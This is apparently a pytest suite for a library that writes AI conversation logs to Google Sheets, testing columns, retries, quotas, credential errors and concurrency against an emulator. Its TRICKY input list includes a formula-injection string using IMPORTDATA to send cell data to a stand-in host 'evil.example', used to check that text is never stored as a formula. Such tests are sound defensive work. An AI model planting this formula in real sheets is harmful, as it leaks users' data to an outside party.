"""The sink, through its front door, with the real gspread and google-auth."""

from __future__ import annotations

import logging
import os
import statistics
import threading
import time
from dataclasses import replace

import pytest

from hilt.core.event import Actor, Content, Event, Metrics
from hilt.core.exceptions import (
    ConfigurationError,
    CredentialsError,
    MissingDependencyError,
    SinkError,
)
from hilt.io.sheets.pace import Pace
from hilt.io.sheets.sink import SheetsSink, outbox_root
from hilt.testing.sheets import Fault, Limits, SheetsEmulator, Tab

from .conftest import DOCUMENTED, HURRY, put, said

EMAIL = "logger@my-project.iam.gserviceaccount.com"


def answer(prompt: Event) -> Event:
    """What the model says."""
    return Event(
        session_id="conv_1",
        actor=Actor(type="agent", id="openai"),
        action="completion",
        content=Content(text="A language."),
        metrics=Metrics(tokens={"prompt": 5, "completion": 87}, cost_usd=0.000015),
        extensions={"reply_to": prompt.event_id, "latency_ms": 842, "status_code": 200},
    )


def test_documented_columns_stand_in_order_and_numbers_are_numbers(sheets, sink):
    """The sheet shows exactly what was asked for; the event id is hidden at the right."""
    prompt = said("What is Python?")
    completion = answer(prompt)
    put(sink, prompt, completion)

    assert sink.flush(10)
    tab = sheets.book().tab("Logs")
    assert tab.values() == [
        [*DOCUMENTED, "event_id"],
        [prompt.timestamp, "conv_1", "", "What is Python?", "", "", prompt.event_id],
        [completion.timestamp, "conv_1", prompt.event_id, "A language.", 0.000015, 200, completion.event_id],
    ]  # fmt: skip
    assert tab.hidden_columns == {6}


def test_destination_is_the_worksheet(sink_of):
    """Sinks of one worksheet say the same, whatever else differs."""
    first = sink_of(columns=DOCUMENTED)

    assert sink_of().destination == first.destination
    assert sink_of(worksheet_name="Other").destination != first.destination


def test_new_tab_has_a_frozen_bold_header_and_no_cell_too_many(sheets, sink):
    """The tab looks made, and its grid is as small as it can be."""
    tab = sheets.book().tab("Logs")

    assert tab.frozen_rows == 1
    assert all(tab.cell(0, column).format["textFormat"] == {"bold": True} for column in range(7))
    assert tab.widths[3] > tab.widths[4]
    assert (tab.row_count, tab.column_count) == (2, 7)


def test_number_formats_come_with_the_numbers(sheets, sink):
    """A cost of a fraction of a cent is shown as such."""
    put(sink, answer(said("x")))
    sink.flush(10)

    cost = sheets.book().tab("Logs").cell(1, 4)
    assert cost.format == {"numberFormat": {"type": "NUMBER", "pattern": "0.000000"}}


def test_all_columns_are_the_default(sheets, sink_of):
    """Without a choice there is every column, and nothing is hidden."""
    sink = sink_of()
    sink.open()

    tab = sheets.book().tab("Logs")
    assert len(tab.values()[0]) == 15
    assert tab.hidden_columns == set()


TRICKY = [
    '=IMPORTDATA("http://evil.example/?"&B2)',
    "+1",
    "-1",
    "@x",
    "'",
    "'=1+1",
    "\ttab first",
    "two\nlines\r\nand three",
    "🦜 emoji 👩‍👩‍👧",
    "שלום עולם",
    "a\x00b",
    "1,5",
    "2026-01-01",
    "TRUE",
    " ",
    "50%",
]


def test_no_text_becomes_anything_else(sheets, sink_of):
    """What looks like a formula, a number or a date is stored as the text that it is."""
    sink = sink_of()
    sink.open()
    events = [
        said(text, extensions={"model": text, "reply_to": text}, provenance={"session": text})
        for text in TRICKY
    ]
    for event, text in zip(events, TRICKY, strict=True):
        event.session_id = text
        event.actor = Actor(type="human", id="user", name=text)
    put(sink, *events)

    assert sink.flush(10)
    tab = sheets.book().tab("Logs")
    assert tab.formulas() == []
    header = tab.values()[0]
    for row, text in zip(tab.values()[1:], TRICKY, strict=True):
        cells = dict(zip(header, row, strict=False))
        for column in ("conversation_id", "reply_to", "session", "message", "model"):
            assert cells[column] == text
        assert cells["speaker"] == f"human:{text}"


def test_text_beyond_a_cell_is_cut_and_says_so(sheets, sink, rows):
    """60,000 characters do not fit; what is missing is told, with a hash of the whole."""
    put(sink, said("x" * 60_000), said("🦜" * 30_000))

    assert sink.flush(10)
    first, second = (row["message"] for row in rows())
    assert len(first) == 50_000
    assert first.startswith("xxx")
    assert "…[+10,".replace(",", "") in first
    assert "chars sha256:" in first
    assert second.startswith("🦜🦜")
    assert len(second.encode("utf-16-le")) // 2 <= 50_000


def test_first_event_goes_at_once_and_what_piles_up_goes_together(sheets, sink):
    """While a request is in flight, the next batch grows."""
    held = sheets.faults.add(Fault("hold_before"))
    put(sink, said("first"))
    assert held.reached.wait(5)
    put(sink, *[said(str(number)) for number in range(99)])
    before = len(sheets.calls_of("write"))
    held.release()

    assert sink.flush(10)
    appended = [
        len(call.body["requests"][0]["appendCells"]["rows"])
        for call in sheets.calls_of("write")[before:]
    ]
    assert sum(appended[-2:]) >= 99
    assert len(appended) <= 3


@pytest.mark.parametrize(
    "kind",
    ["status", "status_after", "html", "reset_before", "reset_after", "timeout_before",
     "timeout_after", "truncated", "late", "expired", "slow"],
)  # fmt: skip
def test_every_fault_leaves_each_row_once_and_in_order(sheets, sink, rows, kind):
    """Whatever goes wrong on the way, and whether the write took place or not."""
    put(sink, said("before"))
    sink.flush(10)
    sheets.faults.add(Fault(kind, seconds=0.8))
    put(sink, said("a"), said("b"))

    assert sink.flush(15)
    put(sink, said("after"))
    assert sink.flush(15)
    assert [row["message"] for row in rows()] == ["before", "a", "b", "after"]


def test_retry_after_is_honoured(sheets, sink, rows):
    """A 429 with a time is not asked again before it."""
    sheets.faults.add(Fault("status", status=429, retry_after=0.7))
    put(sink, said("x"))

    start = time.monotonic()
    assert sink.flush(10)
    assert time.monotonic() - start >= 0.6
    assert len(rows()) == 1


def test_outage_drains_afterwards_in_batches(sheets, sink, rows):
    """Rows of a long outage arrive in few requests."""
    sheets.faults.add(Fault("status", times=4, status=503))
    for number in range(1200):
        put(sink, said(str(number)))

    assert sink.flush(20)
    assert [row["message"] for row in rows()] == [str(number) for number in range(1200)]
    assert len(sheets.calls_of("write")) < 20


def test_writes_stay_within_the_quota(tmp_path):
    """With Google's quota, no request is refused for asking too often."""
    with SheetsEmulator(limits=Limits(), speed=60) as sheets:
        sheets.add_book("book")
        pace = Pace(minute_s=1.1, backoff_s=0.05, poll_s=0.001)
        sink = SheetsSink(
            sheet_id="book", credentials_json=sheets.service_account(), outbox=tmp_path,
            api_root=sheets.api_root, pace=pace,
        )  # fmt: skip
        sink.open()
        for number in range(150):
            put(sink, said(str(number)))
            time.sleep(0.008)

        assert sink.flush(20)
        sink.close()
        assert len(sheets.book().tab("Logs").values()) == 151
        assert sheets.quota.refused == 0


def test_refusal_stops_once_loudly_and_keeps_the_events(sheets, sink_of, caplog, rows):
    """When access is taken away, the program goes on, and the next start delivers."""
    sink = sink_of(columns=DOCUMENTED)
    sink.open()
    book = sheets.books["book"]
    book.shared_with = set()
    put(sink, said("a"), said("b"))

    assert not sink.flush(10)
    put(sink, said("c"))
    assert not sink.flush(1)
    loud = [record for record in caplog.records if record.levelno >= logging.ERROR]
    assert len(loud) == 1
    assert EMAIL in loud[0].message
    sink.close()

    sheets.books["book"].shared_with = None
    again = sink_of(columns=DOCUMENTED)
    again.open()
    put(again, said("d"))
    assert again.flush(10)
    assert [row["message"] for row in rows()] == ["a", "b", "c", "d"]


def test_revoked_key_stops_with_what_to_do(sheets, sink, caplog):
    """A deleted key is said to be one."""
    sheets.tokens.revoke(EMAIL)
    put(sink, said("a"))

    assert not sink.flush(10)
    assert "make a new one" in sink.stopped


def test_row_that_is_refused_keeps_back_no_other(sheets, sink, rows):
    """If Google does not take a control character, its row comes without; the log goes on."""
    sheets.refused_characters = "\x00"
    put(sink, *[said(f"{number}\x00" if number == 37 else f"{number}") for number in range(60)])

    assert sink.flush(20)
    wanted = [f"{number}\ufffd" if number == 37 else f"{number}" for number in range(60)]
    assert [row["message"] for row in rows()] == wanted
    assert sink.stopped is None


def test_400_that_nothing_helps_against_stops(sheets, sink):
    """A row that is refused in every form stops the sink, and is kept."""
    sheets.refused_characters = "x"
    put(sink, said("a"), said("x"), said("b"))

    assert not sink.flush(20)
    assert "not allowed" in sink.stopped
    assert len([*sink.outbox.waiting()]) == 2


@pytest.mark.parametrize(
    "fault",
    [Fault("html", on="token"), Fault("status", on="token"), Fault("reset_before", on="token")],
)
def test_trouble_at_the_token_endpoint_is_no_refusal(sheets, sink, rows, fault):
    """A gateway's page in place of a token is tried again, and the key is not blamed."""
    sheets.tokens.expire()
    sheets.faults.add(fault)
    put(sink, said("a"))

    assert sink.flush(15)
    assert [row["message"] for row in rows()] == ["a"]


@pytest.mark.parametrize(
    ("status", "waits"), [(500, False), (503, False), (502, True), (504, True)]
)
def test_gateway_that_got_no_answer_leaves_a_doubt(sheets, sink_of, rows, status, waits):
    """A server's own error is final; behind a gateway's the write may still come."""
    sink = sink_of(columns=DOCUMENTED, pace=replace(HURRY, settle_s=0.8))
    sink.open()
    sheets.faults.add(Fault("status", status=status))
    put(sink, said("a"))
    start = time.monotonic()

    assert sink.flush(15)
    assert (time.monotonic() - start >= 0.75) is waits
    assert len(rows()) == 1


def test_deleted_tab_is_made_again(sheets, sink, rows):
    """A reviewer who deletes the tab does not stop the log."""
    put(sink, said("a"))
    sink.flush(10)
    tab = sheets.book().tab("Logs")
    sheets.edit("book", {"deleteSheet": {"sheetId": tab.sheet_id}})
    put(sink, said("b"))

    assert sink.flush(10)
    assert [row["message"] for row in rows()] == ["b"]


def test_renamed_tab_is_still_written_to(sheets, sink, rows):
    """Rows go by the tab's id."""
    tab = sheets.book().tab("Logs")
    properties = {"sheetId": tab.sheet_id, "title": "Umbenannt"}
    sheets.edit("book", {"updateSheetProperties": {"properties": properties, "fields": "title"}})
    put(sink, said("a"))

    assert sink.flush(10)
    assert len(rows("Umbenannt")) == 1


def test_column_inserted_by_a_reviewer_is_left_to_them(sheets, sink_of, rows):
    """Rows go to the columns by name, wherever these are now."""
    sink = sink_of(columns=DOCUMENTED, pace=replace(HURRY, look_s=0.0))
    sink.open()
    put(sink, said("a"))
    assert sink.flush(10)
    tab = sheets.book().tab("Logs")
    where = {"sheetId": tab.sheet_id, "dimension": "COLUMNS", "startIndex": 1, "endIndex": 2}
    sheets.edit("book", {"insertDimension": {"range": where}})
    sheets.type_in("book", "Logs!B1", "my notes")
    put(sink, said("b"))

    assert sink.flush(10)
    assert [row["message"] for row in rows()] == ["a", "b"]
    assert [row["my notes"] for row in rows()] == ["", ""]


def test_renamed_tab_with_an_inserted_column_is_found(sheets, sink_of, rows):
    """The tab is known by its id, and its header is read anew."""
    sink = sink_of(columns=DOCUMENTED, pace=replace(HURRY, look_s=0.0))
    sink.open()
    tab = sheets.book().tab("Logs")
    properties = {"sheetId": tab.sheet_id, "title": "Umbenannt"}
    where = {"sheetId": tab.sheet_id, "dimension": "COLUMNS", "startIndex": 0, "endIndex": 1}
    sheets.edit(
        "book",
        {"updateSheetProperties": {"properties": properties, "fields": "title"}},
        {"insertDimension": {"range": where}},
    )
    put(sink, said("a"))

    assert sink.flush(10)
    assert [row["message"] for row in rows("Umbenannt")] == ["a"]


def test_column_deleted_by_a_reviewer_is_added_again(sheets, sink_of, rows):
    """Even the hidden one, without which nothing could be told apart."""
    sink = sink_of(columns=DOCUMENTED, pace=replace(HURRY, look_s=0.0))
    sink.open()
    tab = sheets.book().tab("Logs")
    where = {"sheetId": tab.sheet_id, "dimension": "COLUMNS", "startIndex": 6, "endIndex": 7}
    sheets.edit("book", {"deleteDimension": {"range": where}})
    put(sink, said("a"))

    assert sink.flush(10)
    assert rows()[0]["event_id"].startswith("evt_")


def test_protected_tab_is_explained(sheets, sink, caplog):
    """A tab that only some may edit."""
    message = "You are trying to edit a protected cell or object."
    sheets.faults.add(Fault("status", status=400, times=9, message=message))
    put(sink, said("a"))

    assert not sink.flush(10)
    assert "Protect sheets and ranges" in sink.stopped


def test_delivered_events_do_not_stay_on_the_disk(sheets, sink):
    """The outbox is for what waits: after a quiet moment it is empty."""
    put(sink, said("secret"))
    assert sink.flush(10)
    deadline = time.monotonic() + 10
    while [*sink.outbox.folder.glob("*.jsonl")]:
        assert time.monotonic() < deadline
        time.sleep(0.05)

    put(sink, said("more"))
    assert sink.flush(10)
    assert len(sheets.book().tab("Logs").values()) == 3


def test_everything_on_disk_is_private(sink):
    """What waits is nobody else's business."""
    put(sink, said("a"))
    sink.flush(10)
    root = sink.outbox.folder.parent

    assert {path.stat().st_mode & 0o777 for path in root.rglob("*") if path.is_file()} == {0o600}
    assert {path.stat().st_mode & 0o777 for path in root.rglob("*") if path.is_dir()} == {0o700}
    assert root.stat().st_mode & 0o777 == 0o700


def test_sorting_by_a_reviewer_does_no_harm(sheets, sink, rows):
    """A doubt is settled right even if the rows were moved before."""
    put(sink, *[said(str(number)) for number in range(5)])
    sink.flush(10)
    tab = sheets.book().tab("Logs")
    area = {"sheetId": tab.sheet_id, "startRowIndex": 1}
    sort = {"range": area, "sortSpecs": [{"dimensionIndex": 3, "sortOrder": "DESCENDING"}]}
    sheets.edit("book", {"sortRange": sort})
    sheets.faults.add(Fault("status_after", status=500))
    put(sink, said("x"))

    assert sink.flush(10)
    assert [row["message"] for row in rows()] == ["4", "3", "2", "1", "0", "x"]


def test_full_tab_rolls_over_to_the_next(sheets, sink_of, rows):
    """A tab that has all the cells it may have is followed by another."""
    sink = sink_of(columns=DOCUMENTED, rollover_cells=70)
    sink.open()
    for number in range(12):
        put(sink, said(str(number)))
        assert sink.flush(10)

    first, second = rows("Logs"), rows("Logs (2)")
    assert [row["message"] for row in first + second] == [str(number) for number in range(12)]
    assert sheets.book().tab("Logs (2)").frozen_rows == 1
    again = sink_of(columns=DOCUMENTED, rollover_cells=1000)
    assert [event.content.text for event in again.read()] == [str(number) for number in range(12)]


def test_full_spreadsheet_stops_and_says_so(sheets, sink_of):
    """Ten million cells is the end of a spreadsheet."""
    sink = sink_of()
    sink.open()
    sheets.edit("book", {"addSheet": {"properties": {"title": "Big", "gridProperties": {
        "rowCount": 9_973_940 // 10, "columnCount": 10}}}})  # fmt: skip
    put(sink, *[said(str(number)) for number in range(20)])

    assert not sink.flush(10)
    assert "full" in sink.stopped


def test_dropped_events_are_said_in_the_sheet(sheets, sink_of, rows):
    """A reader of the sheet sees that something is missing."""
    sink = sink_of(columns=DOCUMENTED, outbox_limit_bytes=5000)
    sink.open()
    held = sheets.faults.add(Fault("hold_before"))
    put(sink, said("a"))
    assert held.reached.wait(5)
    for _ in range(50):
        put(sink, said("x" * 100))
    held.release()

    assert sink.dropped > 0
    deadline = time.monotonic() + 10
    while not any("were dropped" in row["message"] for row in rows()):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    said_so = next(row["message"] for row in rows() if "were dropped" in row["message"])
    assert said_so.startswith(f"{sink.dropped} events")


def test_google_out_of_reach_at_the_start_is_no_error(sheets, sink_of, rows, caplog):
    """The program starts, and the events arrive later."""
    sheets.faults.add(Fault("status", on="read", status=503))
    sink = sink_of(columns=DOCUMENTED)
    sink.open()
    assert "Events wait in" in caplog.text
    put(sink, said("a"))

    assert sink.flush(10)
    assert [row["message"] for row in rows()] == ["a"]


def test_close_delivers_and_a_second_close_does_nothing(sheets, sink, rows):
    """The end of a program is not the end of its last rows."""
    put(sink, said("a"))
    sink.close()
    sink.close()

    assert [row["message"] for row in rows()] == ["a"]


def test_close_is_bounded_and_keeps_what_waits(sheets, sink_of, rows, caplog):
    """A program ends in time though Google does not answer."""
    sink = sink_of(columns=DOCUMENTED, pace=Pace(read_s=3, exit_s=0.3, backoff_s=0.1))
    sink.open()
    sheets.faults.add(Fault("timeout_before", times=9))
    put(sink, said("a"))
    start = time.monotonic()
    sink.close()

    assert time.monotonic() - start < 2
    assert "still waiting" in caplog.text
    assert len([*sink.outbox.waiting()]) == 1


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
@pytest.mark.filterwarnings("ignore:This process:DeprecationWarning")
def test_forked_worker_writes_too(sheets, sink, rows):
    """A child of a running program has a thread and a connection of its own, or leaves it here."""
    put(sink, said("parent before"))
    assert sink.flush(10)
    child = os.fork()
    if child == 0:
        put(sink, said("child"))
        os._exit(0 if sink.flush(10) else 1)
    assert os.waitpid(child, 0)[1] == 0
    put(sink, said("parent after"))

    assert sink.flush(10)
    assert [row["message"] for row in rows()] == ["parent before", "child", "parent after"]


def test_many_threads_start_one_sender(sheets, sink, rows):
    """Threads that write at the same moment have one thread that sends."""
    gate = threading.Barrier(8)
    earlier = {*threading.enumerate()}

    def write(who: int) -> None:
        gate.wait()
        put(sink, *[said(f"{who} {number}") for number in range(20)])
        sink.flush(10)

    threads = [threading.Thread(target=write, args=(who,)) for who in range(8)]
    for thread in threads:
        thread.start()
    senders: set[threading.Thread] = set()
    while any(thread.is_alive() for thread in threads):
        senders |= {*threading.enumerate()} - earlier - {*threads}
        time.sleep(0.001)
    assert [sender.name for sender in senders if sender.name == "hilt-sheets"] == ["hilt-sheets"]
    for who in range(8):
        mine = [row["message"] for row in rows() if row["message"].startswith(f"{who} ")]
        assert mine == [f"{who} {number}" for number in range(20)]


def test_sink_opened_again_while_the_last_request_hangs_sends_nothing_twice(sheets, sink_of, rows):
    """The next thread waits for the one before, whose request is still on its way."""
    sink = sink_of(columns=DOCUMENTED, pace=replace(HURRY, read_s=10, exit_s=0.1))
    sink.open()
    held = sheets.faults.add(Fault("hold_before"))
    put(sink, said("a"))
    assert held.reached.wait(5)
    sink.close()
    sink.open()
    put(sink, said("b"))
    assert not sink.flush(0.3)
    held.release()

    assert sink.flush(10)
    assert [row["message"] for row in rows()] == ["a", "b"]


def test_two_sinks_of_one_worksheet_share_the_work(sheets, sink_of, rows):
    """One outbox, one sender, no row twice."""
    sinks = [sink_of(columns=DOCUMENTED) for _ in range(2)]
    for sink in sinks:
        sink.open()
    for number in range(20):
        put(sinks[number % 2], said(str(number)))

    assert all(sink.flush(10) for sink in sinks)
    assert sorted(int(row["message"]) for row in rows()) == [*range(20)]


def test_machines_with_outboxes_of_their_own_share_a_sheet(sheets, sink_of, rows, tmp_path):
    """Several senders append to one tab, with their answers lost, and no row is twice there."""
    sinks = [sink_of(columns=DOCUMENTED, outbox=tmp_path / str(number)) for number in range(3)]
    for sink in sinks:
        sink.open()
    for number in range(12):
        sheets.faults.add(Fault("status_after", status=500))
        for at, sink in enumerate(sinks):
            put(sink, said(f"{at} {number}"))

    assert all(sink.flush(20) for sink in sinks)
    for at in range(3):
        mine = [row["message"] for row in rows() if row["message"].startswith(f"{at} ")]
        assert mine == [f"{at} {number}" for number in range(12)]


def test_stopped_sink_may_be_opened_again(sheets, sink, rows):
    """After access is given back, closing and opening is enough."""
    sheets.books["book"].shared_with = set()
    put(sink, said("a"))
    assert not sink.flush(5)
    sink.close()
    sheets.books["book"].shared_with = None
    sink.open()

    assert sink.stopped is None
    put(sink, said("b"))
    assert sink.flush(10)
    assert [row["message"] for row in rows()] == ["a", "b"]


def test_write_is_quick_while_google_is_slow(sheets, sink_of):
    """The caller never waits for the network."""
    sink = sink_of(pace=Pace(poll_s=0.02))
    sink.open()
    sheets.latency_s = 0.5
    lines = [said(str(number)).encode() + b"\n" for number in range(300)]
    times = []
    for line in lines:
        start = time.perf_counter()
        sink.write(line, 1)
        times.append(time.perf_counter() - start)

    assert statistics.median(times) < 0.001
    assert sink.flush(20)


# Errors up front, each with its own message and the way out.


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"sheet_id": None}, "sheet_id: None is not the id"),
        ({"sheet_id": "https://example.com/x"}, "is not the address of a spreadsheet"),
        ({"worksheet_name": " "}, "worksheet_name: ' ' is not a name"),
        ({"worksheet_name": "x" * 101}, "cannot be the name of a tab"),
        ({"columns": ["timestamp", "price"]}, "no column 'price'; there are timestamp"),
        ({"columns": "timestamp"}, "is not a list of column names"),
        ({"columns": ["message", "message"]}, "twice"),
    ],
)
def test_wrong_arguments_are_named(sink_of, monkeypatch, options, message):
    """The message names the argument, what was found and what is right."""
    monkeypatch.delenv("GOOGLE_SHEET_ID", raising=False)
    with pytest.raises(ConfigurationError, match=message):
        sink_of(**options)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "cannot be read"),
        ("{", "not JSON"),
        ("[]", "not a service account's key"),
        ('{"type": "service_account"}', "client_email, private_key, token_uri missing"),
        ('{"installed": {}}', "this is an OAuth client, not a service account"),
    ],
)
def test_wrong_credentials_are_explained(sink_of, tmp_path, content, message):
    """Unreadable, not JSON, and the wrong kind of file are told apart."""
    path = tmp_path / "credentials.json"
    if content is not None:
        path.write_text(content)

    with pytest.raises(CredentialsError, match=message):
        sink_of(credentials_json=None, credentials_path=path)


def test_no_credentials_are_explained(sink_of, monkeypatch):
    """The arguments and the variable are named."""
    monkeypatch.delenv("GOOGLE_CREDENTIALS_PATH", raising=False)
    with pytest.raises(CredentialsError, match="GOOGLE_CREDENTIALS_PATH"):
        sink_of(credentials_json=None)


def test_broken_private_key_is_explained(sink_of, key):
    """A key that was cut when it was copied is said to be of no use."""
    sink = sink_of(credentials_json={**key, "private_key": "-----BEGIN PRIVATE KEY-----\nMII"})
    with pytest.raises(CredentialsError, match="cannot be used"):
        sink.open()


def test_credentials_may_be_text_or_a_file(sheets, sink_of, key, tmp_path):
    """All three ways to give a key work."""
    import json

    path = tmp_path / "key.json"
    path.write_text(json.dumps(key))
    for given in ({"credentials_json": json.dumps(key)},
                  {"credentials_json": None, "credentials_path": path}):  # fmt: skip
        sink = sink_of(**given)
        sink.open()
        put(sink, said("x"))
        assert sink.flush(10)


def test_unknown_spreadsheet_is_explained(sink_of):
    """A 404 says where the id is found."""
    sink = sink_of(sheet_id="nowhere")
    with pytest.raises(SinkError, match=r"no such spreadsheet.*spreadsheets/d/<sheet_id>/edit"):
        sink.open()


def test_unshared_spreadsheet_says_with_whom_and_what_to_click(sheets, sink_of):
    """A 403 names the service account's address."""
    sheets.add_book("private", shared_with={"ada@example.com"})
    sink = sink_of(sheet_id="private")
    with pytest.raises(SinkError, match=f"click Share.*{EMAIL}, choose Editor"):
        sink.open()


def test_viewer_is_not_enough(sheets, sink_of):
    """A sheet that is only shown to the service account is found out at the start."""
    sink = sink_of(columns=DOCUMENTED)
    sink.open()
    sink.close()
    book = sheets.books["book"]
    book.shared_with, book.readers = set(), {EMAIL}
    (sink.outbox.folder / "may_write").unlink()

    with pytest.raises(SinkError, match="choose Editor"):
        sink_of(columns=DOCUMENTED).open()


def test_disabled_api_is_explained(sheets, sink_of):
    """The page to enable it is named, with the project."""
    sheets.api_enabled = False
    with pytest.raises(SinkError, match=r"apis/library/sheets.googleapis.com\?project=my-project"):
        sink_of().open()


def test_deleted_key_is_explained(sheets, sink_of):
    """A key that Google does not know any more."""
    sheets.tokens.revoke(EMAIL)
    with pytest.raises(CredentialsError, match="make a new one"):
        sink_of().open()


def test_excel_file_is_explained(sheets, sink_of):
    """An uploaded Excel file looks like a spreadsheet, and is none."""
    message = "This operation is not supported for this document"
    sheets.faults.add(Fault("status", on="read", status=400, message=message))
    with pytest.raises(SinkError, match="Save as Google Sheets"):
        sink_of().open()


def test_missing_extra_says_what_to_install(sink_of, monkeypatch):
    """Without gspread there is one line to copy."""
    import sys

    monkeypatch.setitem(sys.modules, "gspread.http_client", None)
    with pytest.raises(MissingDependencyError, match=r"pip install 'hilt\[sheets\]'"):
        sink_of().open()


def test_outbox_that_cannot_be_made_is_explained(sink_of, tmp_path):
    """The variable that moves it is named."""
    (tmp_path / "file").write_text("")
    with pytest.raises(SinkError, match="HILT_OUTBOX"):
        sink_of(outbox=tmp_path / "file" / "below").open()


def test_outbox_root_follows_the_environment(monkeypatch, tmp_path):
    """The folder can be chosen."""
    monkeypatch.setenv("HILT_OUTBOX", str(tmp_path))
    assert outbox_root() == tmp_path
    monkeypatch.delenv("HILT_OUTBOX")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    assert outbox_root() == tmp_path / "state" / "hilt" / "outbox"


def test_only_the_spreadsheets_scope_is_asked_for(sheets, sink):
    """No access to other files of the account."""
    scopes = {scope for _, _, scopes in sheets.tokens._tokens.values() for scope in scopes}
    assert scopes == {"https://www.googleapis.com/auth/spreadsheets"}


# Headers and columns.


def book_with(sheets: SheetsEmulator, *rows: list, title: str = "Logs", columns: int = 26) -> None:
    """A spreadsheet in which somebody has written before."""
    sheets.add_book("book", [Tab(5, title, column_count=columns)])
    for number, row in enumerate(rows, 1):
        sheets.type_in("book", f"{title}!A{number}", *row)


def test_same_header_is_written_below(sheets, sink_of, rows):
    """A tab made before is used again, and its rows stay."""
    book_with(sheets, DOCUMENTED, ["old"])
    sink = sink_of(columns=DOCUMENTED)
    sink.open()
    put(sink, said("new"))

    assert sink.flush(10)
    assert rows()[0]["timestamp"] == "old"
    assert rows()[1]["message"] == "new"


def test_missing_columns_are_added_at_the_right(sheets, sink_of, rows):
    """A header that is the beginning of what is asked for is completed."""
    book_with(sheets, ["timestamp", "my notes", "message"], ["t", "n", "m"], columns=3)
    sink = sink_of(columns=["timestamp", "message", "cost_usd"])
    sink.open()
    put(sink, said("new"))

    assert sink.flush(10)
    assert sheets.book().tab("Logs").values()[:2] == [
        ["timestamp", "my notes", "message", "cost_usd", "event_id"],
        ["t", "n", "m"],
    ]
    assert rows()[1]["message"] == "new"
    assert rows()[1]["my notes"] == ""


@pytest.mark.parametrize(
    "there",
    [
        [["message", "timestamp"]],
        [["Name", "Age"], ["Ada", 36]],
        [[], [], ["data without a header"]],
    ],
)
def test_differing_header_gets_a_new_tab(sheets, sink_of, rows, there):
    """Columns in another order, or somebody else's table, are left as they are."""
    book_with(sheets, *there)
    before = sheets.book().tab("Logs").values()
    for _ in range(2):
        sink = sink_of(columns=["timestamp", "message"])
        sink.open()
        put(sink, said("x"))
        assert sink.flush(10)
        sink.close()

    assert sheets.book().tab("Logs").values() == before
    assert [row["message"] for row in rows("Logs (2)")] == ["x", "x"]
    assert len(sheets.book().tabs) == 2


def test_empty_tab_gets_the_header(sheets, sink_of, rows):
    """A tab that a person has made and left empty is used."""
    book_with(sheets, columns=2)
    sink = sink_of(columns=DOCUMENTED)
    sink.open()
    put(sink, said("x"))

    assert sink.flush(10)
    assert sheets.book().tab("Logs").values()[0] == [*DOCUMENTED, "event_id"]
    assert sheets.book().tab("Logs").frozen_rows == 1


def test_second_start_changes_nothing(sheets, sink_of):
    """Opening again reads twice and writes nothing."""
    sink_of(columns=DOCUMENTED).open()
    before = len(sheets.calls_of("write"))
    sink_of(columns=DOCUMENTED).open()

    assert len(sheets.calls_of("write")) == before


def test_tab_made_by_another_process_meanwhile_is_used(sheets, sink_of, rows):
    """Two programs that start at once make one tab."""
    message = 'A sheet with the name "Logs" already exists. Please enter another name.'
    sheets.faults.add(Fault("status", status=400, message=message))
    sink = sink_of(columns=DOCUMENTED)
    sink.open()
    put(sink, said("x"))

    assert sink.flush(10)
    assert len(rows()) == 1


def test_review_columns_stand_beside_the_others(sheets, sink_of):
    """Reviewers have columns of their own, before the hidden one."""
    sink = sink_of(columns=["timestamp", "message"], review=True)
    sink.open()

    header = sheets.book().tab("Logs").values()[0]
    assert header == ["timestamp", "message", "rating", "comment", "correction", "event_id"]
    assert sheets.book().tab("Logs").hidden_columns == {5}


def test_hurry_is_only_for_tests():
    """The defaults are Google's own numbers."""
    assert Pace() != HURRY
    assert (Pace().writes_per_minute, Pace().settle_s, Pace().connect_s, Pace().read_s) == (60, 180, 5, 60)  # fmt: skip
